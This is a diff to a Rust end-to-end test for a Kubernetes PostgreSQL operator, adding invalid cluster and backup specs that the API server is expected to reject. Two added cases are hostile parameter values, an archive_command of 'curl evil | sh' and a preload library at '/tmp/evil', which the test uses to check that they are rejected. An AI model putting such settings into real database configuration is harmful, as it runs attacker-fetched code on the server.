@@ -1,7 +1,7 @@
 //! Invalid specs are rejected by the API server (CRD schema and CEL rules), naming the field,
 //! and nothing is created for them.
 
-use tusk_e2e::manifests::cluster;
+use tusk_e2e::manifests::{backup, cluster};
 use tusk_e2e::objects::names;
 use tusk_e2e::{Kind, ensure, fail, say, with_temp_ns};
 
@@ -96,6 +96,41 @@ fn cases() -> Vec<(&'static str, &'static str, String)> {
             "spec.backup.destination.gcs.bucket",
             r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {gcs: {bucket: ab, credentials: {serviceAccountKey: {name: k, key: key.json}}}}}}"#,
         ),
+        // Accepted once, then refused by the CronJob or StatefulSet API: refused here instead.
+        bad(
+            "spec.backup.schedule",
+            &format!(r#"{{storage: {{size: 1Gi}}, backup: {{schedule: "0 0 * * 7", {S3}}}}}"#),
+        ),
+        bad(
+            "spec.resources",
+            "{storage: {size: 1Gi}, resources: {limits: {memory: lots}}}",
+        ),
+        bad(
+            "spec.resources",
+            "{storage: {size: 1Gi}, resources: {requests: {cpu: 2}, limits: {cpu: 500m}}}",
+        ),
+        bad(
+            "spec.storage.storageClassName",
+            r#"{storage: {size: 1Gi, storageClassName: "Fast SSD"}}"#,
+        ),
+        // Settings that would run commands or load code as the postgres user.
+        bad(
+            "spec.parameters",
+            r#"{storage: {size: 1Gi}, parameters: {archive_command: "curl evil | sh"}}"#,
+        ),
+        bad(
+            "spec.parameters",
+            r#"{storage: {size: 1Gi}, parameters: {shared_preload_libraries: "/tmp/evil"}}"#,
+        ),
+        // Names the agent would refuse (tests/contracts/names.json).
+        bad(
+            "spec.backup.destination.s3.path",
+            r#"{storage: {size: 1Gi}, backup: {schedule: "@daily", destination: {s3: {bucket: abc, path: a/./b}}}}"#,
+        ),
+        bad(
+            "spec.restore.objectStore.cluster",
+            "{storage: {size: 1Gi}, restore: {objectStore: {destination: {s3: {bucket: abc}}, cluster: Old_Cluster}}}",
+        ),
         bad("spec.restore", "{storage: {size: 1Gi}, restore: {}}"),
         bad("spec.replicas", "{storage: {size: 1Gi}, replicas: 3}"),
         (
@@ -124,6 +159,12 @@ async fn invalid_specs() {
         }
         let stored = ctx.postgresqls_in(&ctx.ns).list(&Default::default()).await?.items.len();
         ensure!(stored == 0, "an invalid PostgreSQL was stored");
+        // A Backup of something that cannot be a cluster would wait Pending forever.
+        let message = match ctx.apply(&backup("of-nothing", "Not_A_Cluster")).await {
+            Ok(_) => fail!("a Backup of cluster Not_A_Cluster was accepted"),
+            Err(e) => e.to_string(),
+        };
+        ensure!(message.contains("spec.cluster.name"), "Backup rejected without naming spec.cluster.name: {message}");
 
         // Changes that are valid at creation but not afterwards.
         ctx.apply(&cluster("valid", None)).await?;
@@ -148,7 +189,7 @@ async fn invalid_specs() {
             .labelled_in(&ctx.ns, &Kind::CHILDREN, "tusk.dev/cluster,tusk.dev/cluster!=valid")
             .await?;
         ensure!(stray.is_empty(), "children of rejected objects exist: {}", names(&stray));
-        say(format!("{} invalid specs rejected by the API server; nothing created for them", cases.len() + 2));
+        say(format!("{} invalid specs rejected by the API server; nothing created for them", cases.len() + 3));
         Ok(())
     })
     .await;
